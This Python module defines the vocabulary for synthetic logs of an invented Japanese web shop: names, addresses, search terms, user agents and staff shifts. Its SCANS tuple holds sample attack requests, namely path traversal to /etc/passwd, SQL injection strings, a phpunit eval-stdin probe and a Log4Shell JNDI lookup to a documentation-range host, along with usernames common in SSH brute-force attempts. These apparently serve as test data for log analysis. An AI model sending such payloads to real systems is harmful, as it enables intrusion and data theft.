"""Vocabulary of the invented shop: names, places, search words, programs.

Every person is invented by combining common names. Outside addresses come from the documentation ranges (RFC 5737, RFC 3849), crowds of clients
from the benchmarking and shared ranges (RFC 2544, RFC 6598); mail domains are reserved ones (RFC 2606, example.jp); telephone numbers start with
digits that are not assigned to subscribers.
"""

from __future__ import annotations

FAMILY_NAMES = (
    ("佐藤", "サトウ", "sato"),
    ("鈴木", "スズキ", "suzuki"),
    ("髙橋", "タカハシ", "takahashi"),
    ("高橋", "タカハシ", "takahashi"),
    ("田中", "タナカ", "tanaka"),
    ("伊藤", "イトウ", "ito"),
    ("渡邊", "ワタナベ", "watanabe"),
    ("渡辺", "ワタナベ", "watanabe"),
    ("山本", "ヤマモト", "yamamoto"),
    ("中村", "ナカムラ", "nakamura"),
    ("小林", "コバヤシ", "kobayashi"),
    ("加藤", "カトウ", "kato"),
    ("𠮷田", "ヨシダ", "yoshida"),
    ("吉田", "ヨシダ", "yoshida"),
    ("山田", "ヤマダ", "yamada"),
    ("佐々木", "ササキ", "sasaki"),
    ("山﨑", "ヤマザキ", "yamazaki"),
    ("松本", "マツモト", "matsumoto"),
    ("井上", "イノウエ", "inoue"),
    ("木村", "キムラ", "kimura"),
    ("林", "ハヤシ", "hayashi"),
    ("斎藤", "サイトウ", "saito"),
    ("齋藤", "サイトウ", "saito"),
    ("清水", "シミズ", "shimizu"),
    ("阿部", "アベ", "abe"),
    ("森", "モリ", "mori"),
    ("池田", "イケダ", "ikeda"),
    ("橋本", "ハシモト", "hashimoto"),
    ("石川", "イシカワ", "ishikawa"),
    ("小笠原", "オガサワラ", "ogasawara"),
    ("長谷川", "ハセガワ", "hasegawa"),
    ("五十嵐", "イガラシ", "igarashi"),
    ("長宗我部", "チョウソカベ", "chosokabe"),
    ("岡", "オカ", "oka"),
    ("東海林", "ショウジ", "shoji"),
    ("Nguyen", "グエン", "nguyen"),
    ("O'Brien", "オブライエン", "obrien"),
    ("金城", "キンジョウ", "kinjo"),
)

GIVEN_NAMES = (
    ("翔太", "ショウタ", "shota", "M"),
    ("大輔", "ダイスケ", "daisuke", "M"),
    ("健一郎", "ケンイチロウ", "kenichiro", "M"),
    ("誠", "マコト", "makoto", "M"),
    ("陽翔", "ハルト", "haruto", "M"),
    ("蓮", "レン", "ren", "M"),
    ("拓也", "タクヤ", "takuya", "M"),
    ("直樹", "ナオキ", "naoki", "M"),
    ("龍之介", "リュウノスケ", "ryunosuke", "M"),
    ("和夫", "カズオ", "kazuo", "M"),
    ("美咲", "ミサキ", "misaki", "F"),
    ("陽子", "ヨウコ", "yoko", "F"),
    ("結衣", "ユイ", "yui", "F"),
    ("さくら", "サクラ", "sakura", "F"),
    ("恵美子", "エミコ", "emiko", "F"),
    ("愛", "アイ", "ai", "F"),
    ("七海", "ナナミ", "nanami", "F"),
    ("智子", "トモコ", "tomoko", "F"),
    ("久美子", "クミコ", "kumiko", "F"),
    ("葵", "アオイ", "aoi", "F"),
    ("ひかり", "ヒカリ", "hikari", "F"),
    ("マリア", "マリア", "maria", "F"),
    ("凛", "リン", "rin", "F"),
    ("裕美", "ヒロミ", "hiromi", "F"),
)

PLACES = (
    ("060", "北海道札幌市中央区北一条西"),
    ("980", "宮城県仙台市青葉区中央"),
    ("100", "東京都千代田区丸の内"),
    ("150", "東京都渋谷区神宮前"),
    ("177", "東京都練馬区石神井町"),
    ("220", "神奈川県横浜市西区みなとみらい"),
    ("260", "千葉県千葉市中央区"),
    ("330", "埼玉県さいたま市大宮区桜木町"),
    ("380", "長野県長野市大字鶴賀"),
    ("420", "静岡県静岡市葵区呉服町"),
    ("460", "愛知県名古屋市中区栄"),
    ("530", "大阪府大阪市北区梅田"),
    ("600", "京都府京都市下京区四条通寺町東入二丁目御旅町"),
    ("650", "兵庫県神戸市中央区三宮町"),
    ("730", "広島県広島市中区紙屋町"),
    ("790", "愛媛県松山市三番町"),
    ("810", "福岡県福岡市中央区天神"),
    ("900", "沖縄県那覇市泉崎"),
)

# One building in ten makes CSV quoting necessary: a comma, a quotation mark.
BUILDINGS = (
    "",
    "",
    "",
    " サンライズマンション{n}号室",
    " ｺｰﾎﾟ大和{n}",
    " グランドメゾン中央公園弐番館{n}号室",
    ", Bldg. 3, Room {n}",
    ' レジデンス"Hana" {n}',
    " 第二みどり荘{n}",
    " Ｓ・Ｔビル{n}Ｆ",
)

MAIL_DOMAINS = ("example.jp", "mail.example.jp", "example.com", "example.ne.jp", "post.example.org")

SEARCH_WORDS = (
    "浴衣", "ワンピース", "スニーカー 白", "傘", "弁当箱", "コーヒー豆", "抹茶", "トートバッグ", "ギフト", "敬老の日", "手ぬぐい", "タンブラー",
    "北欧 食器", "座椅子", "扇風機", "枕", "タオル", "リュック", "財布 レディース", "腕時計", "ヘアオイル", "化粧水", "日焼け止め", "キャンプ用品",
    "テント", "折りたたみ椅子", "水筒 1L", "防災セット", "非常食", "おせち 予約", "梨", "シャインマスカット", "うなぎ", "そば", "日本酒", "梅酒",
    "select shop", "Tシャツ L", "デニム", "帽子", "麦わら帽子", "ベビー服", "知育玩具", "絵本", "文房具", "万年筆", "手帳 2027", "カレンダー",
    "c++ 入門", "100% オレンジ", "D'Artagnan", "union set",
)  # fmt: skip

CATEGORIES = ("kitchen", "fashion", "bags", "beauty", "outdoor", "food", "gift", "kids", "stationery", "interior", "sale", "new")

DESKTOP_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36 Edg/139.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
)

MOBILE_AGENTS = tuple(
    f"Mozilla/5.0 (iPhone; CPU iPhone OS {major}_{minor} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    f"Version/{major}.{minor} Mobile/15E148 Safari/604.1"
    for major, minor in ((16, 7), (17, 5), (17, 6), (18, 1), (18, 3), (18, 5), (18, 6))
) + tuple(
    f"Mozilla/5.0 (Linux; Android {version}; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Mobile Safari/537.36"
    for version, chrome, model in (
        (13, 136, "SO-51C"), (13, 139, "SH-52C"), (14, 138, "SC-51D"), (14, 139, "SOG12"), (14, 139, "A302SH"), (15, 139, "Pixel 8"), (15, 139, "Pixel 7a"),
        (15, 139, "SC-52E"), (16, 139, "Pixel 9"), (12, 131, "F-51B"), (14, 137, "FCG01"), (15, 138, "XIG05"),
    )
)  # fmt: skip

APP_AGENTS = (
    "ShopApp/4.2.1 (iPhone; iOS 18.6; ja_JP)",
    "ShopApp/4.2.0 (iPhone; iOS 17.6; ja_JP)",
    "ShopApp/4.2.1 (Android 15; ja_JP) okhttp/4.12.0",
    "ShopApp/4.1.7 (Android 13; ja_JP) okhttp/4.12.0",
)

GOOGLE_AGENT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLE_MOBILE_AGENT = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36 "
    "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
)
BING_AGENT = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
SEO_AGENT = "Mozilla/5.0 (compatible; ExampleSeoBot/7.0; +http://bot.example.com/)"
MONITOR_AGENT = "uptime-probe/2.4"
ATTACK_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

# (request line, status, bytes): what scanners ask of any site and this one refuses
SCANS = (
    ("GET /.env HTTP/1.1", 404, 1534),
    ("GET /.git/config HTTP/1.1", 404, 1534),
    ("GET /.git/HEAD HTTP/1.1", 404, 1534),
    ("GET /wp-login.php HTTP/1.1", 404, 1534),
    ("POST /xmlrpc.php HTTP/1.1", 404, 1534),
    ("GET /phpmyadmin/index.php HTTP/1.1", 404, 1534),
    ("GET /backup.sql HTTP/1.1", 404, 1534),
    ("GET /db.zip HTTP/1.1", 404, 1534),
    ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, 1534),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", 400, 157),
    ("GET /../../../../etc/passwd HTTP/1.1", 400, 157),
    ("GET /?file=..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1", 403, 548),
    ("GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1", 403, 548),
    ("GET /search?q=1%27%20UNION%20SELECT%20NULL,NULL--%20- HTTP/1.1", 403, 548),
    ("GET /?x=$%7Bjndi:ldap://198.51.100.250/a%7D HTTP/1.1", 403, 548),
    ("GET /actuator/health HTTP/1.1", 404, 1534),
    ("GET /boaform/admin/formLogin HTTP/1.1", 404, 1534),
    ("OPTIONS / HTTP/1.0", 405, 552),
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", 400, 157),
    (r"MGLNDD_192.0.2.80_443\x0A", 400, 157),
    ("", 400, 0),
)

SCAN_AGENTS = ("Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "-", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "curl/8.5.0")

SSH_NAMES = ("admin", "root", "oracle", "ubuntu", "test", "postgres", "git", "ftpuser", "pi", "user1", "deploy", "app 1")

# (login name, mail account on the admin pages, works on Saturday, shift start, shift end): hours of the day in Japan
STAFF = (
    ("nakamura", "nakamura@shop.example.jp", False, 9, 18),
    ("kudo", "kudo@shop.example.jp", True, 9, 18),
    ("hirano", "hirano@shop.example.jp", False, 10, 19),
    ("ota", "ota@shop.example.jp", True, 10, 19),
    ("fujii", "fujii@shop.example.jp", False, 9, 17),
    ("miura", "miura@shop.example.jp", False, 12, 21),
    ("yokoyama", "yokoyama@shop.example.jp", True, 1, 6),
    ("sugawara", "sugawara@shop.example.jp", False, 9, 18),
)
